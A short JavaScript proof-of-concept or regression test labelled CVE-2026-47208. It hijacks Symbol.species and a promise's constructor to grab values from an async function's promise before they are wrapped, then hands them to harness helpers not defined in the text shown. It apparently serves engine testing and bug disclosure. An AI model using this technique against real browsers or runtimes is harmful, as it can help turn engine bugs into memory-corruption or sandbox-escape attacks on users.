// CVE-2026-47208
// The species of a promise that an async function made receives a rejection before it is wrapped.
const promise = (async () => { const error = new Error(); error.name = Symbol(); return error.stack; })();
const taken = [];
class Thief {
    static get [Symbol.species]() { return Thief; }
    constructor(executor) { executor((value) => { taken.push(value); }, (error) => { taken.push(error); }); }
    then() {}
}
try { promise.constructor = Thief; } catch {}
try { Object.setPrototypeOf(promise, Object.create(Promise.prototype, { constructor: { value: Thief } })); } catch {}
for (const method of ['then', 'catch', 'finally']) {
    try { Promise.prototype[method].call(promise, (value) => value, (error) => { throw error; }); } catch (error) { taken.push(error); }
}
await new Promise((done) => { setTimeout(done, 1); });
for (const one of taken) await useObject(one);
return found;
